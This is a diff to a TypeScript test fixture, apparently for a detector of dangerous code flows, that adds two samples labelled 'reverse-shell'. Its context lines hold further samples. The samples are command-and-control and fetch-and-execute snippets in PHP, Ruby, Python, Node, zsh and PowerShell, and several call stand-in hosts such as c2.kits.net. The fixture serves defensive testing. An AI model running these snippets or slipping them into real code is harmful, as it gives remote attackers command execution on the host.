@@ -120,6 +120,8 @@ export const flowHits: readonly (readonly [rule: string, text: string])[] = [
   ['runs-answer', '$c = file_get_contents("https://example.org/x");\neval($c);'],
   ['reverse-shell', 's.connect((H, 4444))\nwhile True:\n  cmd = s.recv(1024).decode()\n  subprocess.getoutput(cmd)'],
   ['reverse-shell', "ws.on('message', m => exec(m.toString(), (e, out) => ws.send(out)))"],
+  ['reverse-shell', '$cmd = curl_exec($channel);\nshell_exec($cmd);'],
+  ['reverse-shell', 'cmd = URI.open("https://c2.kits.net/next").read\nsystem(cmd)'],
   ['reverse-shell', 'zmodload zsh/net/tcp && ztcp 203.0.113.77 4444'],
   ['runs-answer', '[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("https://a.net/a.dll"))'],
   ['package-from-nowhere', 'uvx --from git+https://cfg.kits.net/tool.git tool'],
